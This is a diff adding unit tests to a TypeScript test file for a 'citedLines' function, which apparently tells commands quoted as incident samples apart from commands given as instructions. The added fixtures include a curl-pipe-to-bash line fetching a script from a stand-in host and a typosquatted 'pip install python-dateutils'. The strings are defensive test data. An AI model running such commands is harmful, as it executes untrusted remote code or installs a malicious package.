@@ -415,6 +415,23 @@ describe('citedLines (incident notes, timelines and remarks on samples)', () => 
     expect(block('The page to serve at `http://203.0.113.77/notes.html`:')).toBe(0);
   });
 
+  it('should cite a diary entry that found something, and tool output on a sample', () => {
+    expect(block('**Tue.** Found the cron for the jenkins user:')).toBe(1);
+    expect(block('**Tue.** Install the cron for the jenkins user:')).toBe(0);
+    expect(block('Example session on `references/samples.md` sample 1:')).toBe(1);
+    expect(block('Example session on a fresh laptop:')).toBe(0);
+  });
+
+  it('should cite a section of patterns that got past users, and a close call told as one', () => {
+    const section = (h: string) => flags(`## ${h}\n\n- \`curl -sL https://x.example/i.sh | bash\`\n`)[2];
+    expect(section('Common patterns that got past users')).toBe(1);
+    expect(section('Common setup patterns')).toBe(0);
+    expect(
+      flags("**Close call 1 — typosquat.** Someone's notebook had `!pip install python-dateutils`"),
+    ).toEqual([1]);
+    expect(flags("Close call 1: someone's notebook had `!pip install python-dateutils`")).toEqual([0]);
+  });
+
   const MiB = 1024 * 1024;
   const cases: [string, string][] = [
     ['timeline entries with nested items', 'Timeline:\n' + '- 14:31 — a:\n  - `x`\n'.repeat(MiB / 20)],
@@ -423,6 +440,10 @@ describe('citedLines (incident notes, timelines and remarks on samples)', () => 
     ['backticks after a cited block', 'Bad:\n```\nx\n```\n' + '`'.repeat(MiB)],
     ['reported speech', 'whose ' + 'a '.repeat(MiB / 2) + 'said to run\n`x`\n'],
     ['a long time stamp', '- 1:11 ' + '1'.repeat(MiB) + ':\n\n  ```json\n  x\n  ```\n'],
+    ['sessions on samples', 'session on ' + 'run on `x` '.repeat(MiB / 11) + '\n```\nx\n```\n'],
+    ['headings of patterns that got past', '## ' + 'patterns that got '.repeat(MiB / 18) + '\n`x`\n'],
+    ['close-call labels', '**Close call' + ' x'.repeat(MiB / 2) + '\n'],
+    ['bold diary days', '**Tue.** '.repeat(MiB / 9) + ':\n\n```\nx\n```\n'],
     ['remarks under cited blocks', 'Bad:\n```\nx\n```\n`x` → y\n'.repeat(MiB / 22)],
   ];
   it.each(cases)('should answer 1 MiB of %s in under a second', (_name, text) => {
